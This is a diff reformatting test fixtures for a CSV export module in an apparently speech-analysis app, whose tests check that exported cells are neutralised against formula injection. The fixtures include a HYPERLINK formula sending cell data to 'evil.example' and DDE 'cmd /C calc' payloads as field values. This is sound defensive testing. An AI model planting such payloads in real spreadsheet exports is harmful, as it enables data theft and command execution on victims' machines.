@@ -8,24 +8,57 @@ import { csvCell, neutraliseFormula } from './csv-cell';
 import { tableRows, toCsv } from './table-export';
 
 const recording: RecordingSummary = {
-  id: '00000000-0000-4000-8000-000000000000', originalName: '=HYPERLINK("http://evil.example/?d="&A1,"click")', source: 'import',
-  format: 'wav/pcm16', durationS: 3.2, sizeBytes: 100, contentHash: 'x', createdAt: '2025-01-01T10:00:00.000Z', label: null,
-  modelId: null, reviewed: true, analysedAt: '2025-01-01T10:00:01.000Z', caption: '+cmd|" /C calc"!A0',
+  id: '00000000-0000-4000-8000-000000000000',
+  originalName: '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+  source: 'import',
+  format: 'wav/pcm16',
+  durationS: 3.2,
+  sizeBytes: 100,
+  contentHash: 'x',
+  createdAt: '2025-01-01T10:00:00.000Z',
+  label: null,
+  modelId: null,
+  reviewed: true,
+  analysedAt: '2025-01-01T10:00:01.000Z',
+  caption: '+cmd|" /C calc"!A0',
 };
 /** A silent clip: no pitch, no syllables — its measures are undefined. */
 const silent = {
-  recordingId: recording.id, analysisId: 1, analysedAt: '2025-01-01T10:00:01.000Z', durationS: 3.2,
+  recordingId: recording.id,
+  analysisId: 1,
+  analysedAt: '2025-01-01T10:00:01.000Z',
+  durationS: 3.2,
   tracks: { frameStepS: 0.01, f0Hz: [], voicedProbability: [], semitones: [], intensityDb: [], isSpeech: [] },
-  syllables: [], pauses: [], speech: [],
+  syllables: [],
+  pauses: [],
+  speech: [],
   levels: { pitch: 'low', energy: 'low', speed: 'slow', calibration: 'ravdess', mode: 'corpus' },
   caption: '@SUM(1+1)*cmd|" /C calc"!A0',
-  summary: { medianF0Hz: Number.NaN, pitchRangeSt: Number.NEGATIVE_INFINITY, intonation: 'flat', articulationRateSylPerS: Number.NaN, syllableCount: 0, pauseCount: 0, totalPauseS: 0 },
-  explanation: null, calibration: null, timings: {},
+  summary: {
+    medianF0Hz: Number.NaN,
+    pitchRangeSt: Number.NEGATIVE_INFINITY,
+    intonation: 'flat',
+    articulationRateSylPerS: Number.NaN,
+    syllableCount: 0,
+    pauseCount: 0,
+    totalPauseS: 0,
+  },
+  explanation: null,
+  calibration: null,
+  timings: {},
 } as unknown as AnalysisView; // NaN where the type says number | null: what a careless producer hands over
 const review = {
-  recordingId: recording.id, label: 'happy', labelDecision: 'corrected' as const,
+  recordingId: recording.id,
+  label: 'happy',
+  labelDecision: 'corrected' as const,
   ratings: { factualAlignment: 4, interpretativeQuality: 3, captionCompleteness: 5, fluency: 2 },
-  notes: '-2+3 then\tmore', reviewer: '\tDr. Lee', patient: '', sessionDate: '', sessionDetails: '', createdAt: '2025-01-01T11:00:00.000Z', updatedAt: '2025-01-01T11:05:00.000Z',
+  notes: '-2+3 then\tmore',
+  reviewer: '\tDr. Lee',
+  patient: '',
+  sessionDate: '',
+  sessionDetails: '',
+  createdAt: '2025-01-01T11:00:00.000Z',
+  updatedAt: '2025-01-01T11:05:00.000Z',
 };
 
 describe('CSV cells', () => {
